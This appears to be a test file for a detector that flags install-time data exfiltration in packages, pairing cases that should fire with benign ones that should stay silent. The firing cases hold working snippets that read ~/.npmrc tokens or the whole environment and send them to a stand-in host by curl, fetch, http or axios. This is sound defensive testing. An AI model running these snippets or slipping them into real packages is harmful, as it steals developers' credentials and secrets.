import { hooked, installed, loaded, testDetector } from "../../test/test-detector.ts";
import { installExfiltration } from "./index.ts";

testDetector(installExfiltration, {
  fires: {
    "curl that posts the environment": [
      "decisive",
      hooked("env | curl -s -X POST --data-binary @- https://collector.invalid/"),
    ],
    "a file of credentials": [
      "decisive",
      installed(`const fs = require("fs"), os = require("os"), path = require("path");
        const token = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
        fetch("https://collector.invalid/", { method: "POST", body: token });`),
    ],
    "entries of the environment, encoded": [
      "decisive",
      installed(`const http = require("http");
        const text = Object.keys(process.env).map((key) => key + "=" + process.env[key]).join("&");
        http.get("http://collector.invalid/?q=" + Buffer.from(text).toString("hex"));`),
    ],
    "a client from another package": [
      "decisive",
      installed(`require("axios").post("https://collector.invalid/", { env: { ...process.env } });`),
    ],
    "the same in a function that is called later": [
      "decisive",
      installed(`async function main() { await send(JSON.stringify(process.env)); }
        async function send(body) { await fetch("https://collector.invalid/", { method: "POST", body }); }
        main().catch(() => {});`),
    ],
  },
  silent: {
    "a download": installed(`require("https").get("https://downloads.example/" + process.platform);`),
    "a library that sends when it is called": loaded(
      `module.exports = (body) => fetch("https://api.example/", { method: "POST", body, headers: { key: process.env.API_KEY } });`,
    ),
    "a test of whether a pipeline runs": installed(
      `if (!process.env.CI) require("https").get("https://downloads.example/tool");`,
    ),
  },
});
